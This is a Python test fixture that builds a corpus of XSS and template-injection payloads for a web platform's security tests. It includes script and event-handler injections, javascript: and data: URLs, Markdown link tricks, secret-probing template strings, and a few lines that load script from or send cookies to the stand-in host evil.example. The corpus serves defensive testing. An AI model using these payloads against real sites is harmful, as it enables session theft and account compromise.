"""XSS payload corpus for tests/security/test_xss.py.

Hand-written classics plus a few systematic families (tag × event handler × quoting, breakout prefix ×
core, URL scheme × the contexts that take a URL). Every payload is something a browser would execute
if it reached the page unescaped / unsanitised. ``PAYLOADS`` is de-duplicated and in a stable order.
"""

# --- Hand-written ----------------------------------------------------------------------------------

CLASSIC = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/static/js/quiz.js></script>",  # a site script path: must still not become an element
    "<script>alert(document.cookie)</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x00<script>alert(1)</script>",
    "<script>alert`1`</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:x onerror=alert(1)>",
    "<img src=x on\x00error=alert(1)>",
    "<img src=x\x00 onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<img src=x onerror="javascript:alert(1)">',
    "<image src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>klik</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>kirim</button></form>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<button onclick=alert(1)>klik</button>",
    '<a href="javascript:alert(1)">klik</a>',
    "<a href=javascript&colon;alert(1)>klik</a>",
    '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>',
    '<a href="&#x6A;avascript:alert(1)">klik</a>',
    '<a href=" javascript:alert(1)">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
    '<a xlink:href="javascript:alert(1)">klik</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>klik</text></a></svg>',
    '<base href="javascript:alert(1)//">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=//evil.example/x.html>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<applet code="javascript:alert(1)"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<video><source onerror="alert(1)"></video>',
    "<video poster=javascript:alert(1)//></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{x:expression(alert(1))}</style>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    '<div onmouseover="alert(1)">arahkan</div>',
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<x contenteditable onfocus=alert(1) autofocus>x</x>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<div id=x tabindex=1 onfocusin=alert(1)></div>",
    '<p style="animation-name:x" onanimationstart=alert(1)>x</p>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    '<a href="#" onclick="alert(1)">klik</a>',
    "<a href=x onmouseover=alert(1)>arahkan</a>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<svg/onload=alert(1)>",
    "<svg onload=alert&#40;1&#41;>",
    "<svg\tonload=alert(1)>",
    "<svg\nonload=alert(1)>",
    "<svg\x0conload=alert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
]

# --- Escaped and encoded variants (must stay inert and visible as typed) -----------------------------

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<script>alert('\u0130\u00df\u00e9')</script>",
]

# --- Attribute breakouts ------------------------------------------------------------------------------

BREAKOUT_PREFIXES = [
    "\"'>",
    "'>",
    '">',
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
]
BREAKOUT_CORES = ["<svg onload=alert(1)>", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>"]
ATTRIBUTE_INJECTIONS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "' autofocus onfocus='alert(1)' x='",
    '" style="background:url(javascript:alert(1))',
    '" onfocus=alert(1) autofocus="',
    'x" /onerror=alert(1) "',
    "`onmouseover=alert(1)`",
    '"><a href="javascript:alert(1)">klik</a>',
    "'';!--\"<XSS>=&{()}",
]

# --- Template-injection strings: shown literally, never evaluated --------------------------------------

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{ csrf_token }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "{{ '<script>alert(1)</script>'|safe }}",
]

# --- Markdown-specific ---------------------------------------------------------------------------------

MARKDOWN = [
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "[klik]( javascript:alert(1) )",
    '[klik](javascript:alert(1) "judul")',
    "[klik](<javascript:alert(1)>)",
    "[klik](javascript&#58;alert(1))",
    "[klik](&#x6A;avascript:alert(1))",
    "[klik](jav\tascript:alert(1))",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[klik](http://contoh.go.id/"onmouseover="alert(1))',
    '[klik](#" onclick="alert(1))',
    "[klik][r]\n\n[r]: javascript:alert(1)",
    '[klik][r]\n\n[r]: <javascript:alert(1)> "judul"',
    "![gambar](javascript:alert(1))",
    '![gambar" onerror="alert(1)](x.png)',
    '![gambar](x.png" onerror="alert(1))',
    "![gambar][g]\n\n[g]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    '<http://contoh.go.id/"onmouseover="alert(1)>',
    '<mailto:a@b.c?x="><script>alert(1)</script>>',
    "<div>\n<script>alert(1)</script>\n</div>",
    '<div markdown="1">[klik](javascript:alert(1))</div>',
    '<div markdown="1">\n<img src=x onerror=alert(1)>\n</div>',
    "<p>\n\n<script>alert(1)</script>\n\n</p>",
    '# Judul {: onmouseover="alert(1)" }',
    '[klik](http://contoh.go.id){: onclick="alert(1)" }',
    'Paragraf\n{: style="background:url(javascript:alert(1))" }',
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "Teks[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "Istilah\n:   <svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [klik](javascript:alert(1))",
    "**<img src=x onerror=alert(1)>**",
    "_<svg onload=alert(1)>_",
    "<!-- komentar --><img src=x onerror=alert(1)>",
    "<!--\n<script>alert(1)</script>\n-->",
    "\\<script>alert(1)\\</script>",
    '<a href="javascript:alert(1)">[klik](http://contoh.go.id)</a>',
    "[<img src=x onerror=alert(1)>](http://contoh.go.id)",
    '[klik](http://contoh.go.id "judul\\" onmouseover=\\"alert(1)")',
    "&#x5B;klik&#x5D;(javascript:alert(1))",
    "[a](javascript:alert(1))[b](javascript:alert(2))",
    "<details>\n<summary>ringkas</summary>\n<script>alert(1)</script>\n</details>",
    "Setext <script>alert(1)</script>\n===",
]

# --- Systematic families -----------------------------------------------------------------------------------

# Elements paired with an event that fires for them without user interaction (or with focus).
TAG_EVENTS = [
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("input autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("a href=#", "onclick"),
    ("div", "onmouseover"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("embed src=x", "onload"),
]
QUOTINGS = ["{h}=alert(1)", '{h}="alert(1)"', "{h}='alert(1)'", "/{h}=alert(1)"]


def _tag_event_payloads():
    out = []
    for tag, handler in TAG_EVENTS:
        name = tag.split()[0]
        for quoting in QUOTINGS:
            attr = quoting.format(h=handler)
            out.append(f"<{tag} {attr}>" if not attr.startswith("/") else f"<{tag}{attr}>")
        out.append(f"<{tag.upper()} {handler.upper()}=alert(1)></{name.upper()}>")  # mixed case
    return out


SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\x01javascript:alert(1)",
]
URL_CONTEXTS = [
    "[tautan]({u})",
    "![gambar]({u})",
    "[tautan][ref]\n\n[ref]: {u}",
    '<a href="{u}">tautan</a>',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>kirim</button></form>',
    '<button formaction="{u}">kirim</button>',
    '<object data="{u}"></object>',
]


def _url_payloads():
    return [context.format(u=scheme) for scheme in SCHEMES for context in URL_CONTEXTS]


def _breakout_payloads():
    return [prefix + core for prefix in BREAKOUT_PREFIXES for core in BREAKOUT_CORES] + ATTRIBUTE_INJECTIONS


def _unique(items):
    seen, out = set(), []
    for item in items:
        if item not in seen:
            seen.add(item)
            out.append(item)
    return out


ALL = CLASSIC + ENCODED + _breakout_payloads() + TEMPLATE_INJECTION + MARKDOWN + _tag_event_payloads() + _url_payloads()

# Text as it can exist on the platform: NUL characters never get past the request (home.middleware.
# StripNullCharactersMiddleware) and PostgreSQL cannot store them, so the NUL tricks of CLASSIC arrive
# without their NUL; the middleware itself is tested in tests/home/test_null_characters.py.
PAYLOADS = _unique(payload.replace("\x00", "") for payload in ALL)

# Payloads that are URLs by themselves, for the contexts where a whole field is a link target.
URL_PAYLOADS = _unique(SCHEMES + ["javascript:alert(1)//http://contoh.go.id", " javascript:alert(1)"])
